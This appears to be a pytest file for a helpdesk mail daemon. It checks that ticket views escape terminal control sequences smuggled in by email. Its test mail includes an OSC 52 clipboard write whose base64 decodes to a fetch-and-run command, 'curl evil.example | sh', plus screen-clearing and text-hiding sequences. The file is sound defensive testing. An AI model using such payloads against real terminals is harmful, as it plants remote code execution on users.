"""Mail carrying terminal control sequences (an OSC 52 clipboard write, CSI, C1 controls, BEL,
backspace, a carriage return) arrives over real SMTP; `intaked tickets show` and `tickets list`
(real processes) print it with every control shown as a visible escape, and `--json` gives back
the exact text."""

from __future__ import annotations

import base64
import json
import smtplib
import subprocess
import sys
import urllib.parse
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import select

from intaked.store.engine import make_engine
from intaked.store.models import attachment_table, message_table, ticket_table
from intaked.terminal import safe_text
from tests.support.daemon import DaemonThread, make_settings
from tests.support.waiting import wait_until

OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # puts a command on the clipboard
CSI = "\x1b[2J\x1b[31m"  # clear the screen, red
C1_CSI = "\x9b8m"  # the one-character CSI: hidden text
SUBJECT = f"印表機{OSC52}壞了{CSI}{C1_CSI}"
NAME = f"Lin{CSI}\x08\x08\x08Admin"
BODY = f"三樓印表機卡紙{OSC52}\n第二行\rOVERWRITTEN\x1b[1A\x1b[2K\x07\x9b2J\tend\n"
FILENAME = f"report{OSC52}.txt"
#: What must never reach a terminal: ESC, BEL, backspace, a lone CR, and C1 controls.
FORBIDDEN = ["\x1b", "\x07", "\x08", "\r", *map(chr, range(0x80, 0xA0))]


def b64_word(text: str) -> str:
    return f"=?utf-8?b?{base64.b64encode(text.encode()).decode()}?="


def hostile_mail() -> bytes:
    body = base64.encodebytes(BODY.encode()).decode()
    attachment = base64.encodebytes(b"log\n").decode()
    quoted = urllib.parse.quote(FILENAME, safe="")
    return (
        f"From: {b64_word(NAME)} <lin@example.com>\r\n"
        "To: helpdesk@example.com\r\n"
        f"Subject: {b64_word(SUBJECT)}\r\n"
        "Message-ID: <osc52-1@example.com>\r\n"
        "MIME-Version: 1.0\r\n"
        'Content-Type: multipart/mixed; boundary="b1"\r\n\r\n'
        "--b1\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        f"{body}\r\n"
        "--b1\r\nContent-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\n"
        f"Content-Disposition: attachment; filename*=utf-8''{quoted}\r\n\r\n"
        f"{attachment}\r\n--b1--\r\n"
    ).encode()


@pytest.fixture
def filed(tmp_path: Path) -> Iterator[tuple[Path, str]]:
    """A ticket filed from the hostile mail by a running daemon; the CLI's config file and the number."""
    url = f"sqlite:///{tmp_path}/intaked.db"
    config = tmp_path / "intaked.toml"
    config.write_text(f'[database]\nurl = "{url}"\n[logging]\nlevel = "warning"\n')
    running = DaemonThread(make_settings(url, outbound_mail={"host": "127.0.0.1", "port": 9})).start()
    try:
        with smtplib.SMTP("127.0.0.1", running.smtp_port) as client:
            client.sendmail("lin@example.com", ["helpdesk@example.com"], hostile_mail())
        wait_until(lambda: running.ticket_count() == 1 and running.pending_items() == 0, what="the ticket")
    finally:
        running.stop()
    listed = json.loads(intaked(config, "tickets", "list", "--json").stdout)
    yield config, listed[0]["number"]


def intaked(config: Path, *args: str) -> subprocess.CompletedProcess[bytes]:
    result = subprocess.run(
        [sys.executable, "-m", "intaked", *args, "--config", str(config)], capture_output=True, timeout=60
    )
    assert result.returncode == 0, result.stderr
    return result


def assert_terminal_safe(output: bytes) -> str:
    text = output.decode("utf-8")
    found = sorted({f"U+{ord(c):04X}" for c in text if c in FORBIDDEN})
    assert not found, f"control characters reach the terminal: {found}"
    return text


def stored(config: Path, number: str) -> tuple[Any, Any, list[str]]:
    """The ticket, its message and its attachments' names as the store holds them."""
    url = config.read_text().split('"')[1]
    engine = make_engine(url)
    try:
        with engine.connect() as conn:
            query = select(ticket_table).where(ticket_table.c.number == number)
            ticket = conn.execute(query).mappings().one()
            message = (
                conn.execute(select(message_table).where(message_table.c.ticket_id == ticket["id"]))
                .mappings()
                .one()
            )
            names = list(
                conn.execute(
                    select(attachment_table.c.filename).where(attachment_table.c.message_id == message["id"])
                ).scalars()
            )
    finally:
        engine.dispose()
    return ticket, message, names


def test_tickets_show_and_list_print_no_control_sequences(filed: tuple[Path, str]) -> None:
    config, number = filed
    ticket, message, _ = stored(config, number)
    assert "\x1b]52;" in message["body_text"] and "\x9b" in ticket["subject"], "the store keeps them"
    shown = assert_terminal_safe(intaked(config, "tickets", "show", number).stdout)
    assert "\\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\u0007" in shown, "shown, visibly"
    assert "\\u009b8m" in shown and "\\u009b2J" in shown and "\\u001b[2K" in shown
    assert safe_text(ticket["subject"]) in shown
    assert "三樓印表機卡紙" in shown and "\tend\n" in shown, "newlines and tabs are kept"
    listed = assert_terminal_safe(intaked(config, "tickets", "list").stdout)
    assert number in listed and safe_text(ticket["subject"]) in listed


def test_json_output_gives_back_the_exact_text(filed: tuple[Path, str]) -> None:
    config, number = filed
    ticket, message, names = stored(config, number)
    raw = intaked(config, "tickets", "show", number, "--json").stdout
    assert_terminal_safe(raw)
    detail = json.loads(raw)
    assert detail["subject"] == ticket["subject"] and detail["requester_name"] == ticket["requester_name"]
    (shown,) = detail["messages"]
    assert shown["subject"] == message["subject"] and shown["body_text"] == message["body_text"]
    assert shown["body_text"].startswith(f"三樓印表機卡紙{OSC52}\n"), "the body's sequences, exactly"
    assert [a["filename"] for a in shown["attachments"]] == names
    (row,) = json.loads(intaked(config, "tickets", "list", "--json").stdout)
    assert row["subject"] == ticket["subject"]


def test_safe_text_keeps_newlines_and_tabs_and_shows_everything_else() -> None:
    assert safe_text("a\tb\r\nc\n") == "a\tb\nc\n"
    assert safe_text("\x1b[31m\x9b\x7f\x00\r") == "\\u001b[31m\\u009b\\u007f\\u0000\\u000d"
    assert safe_text("中文 plain") == "中文 plain"
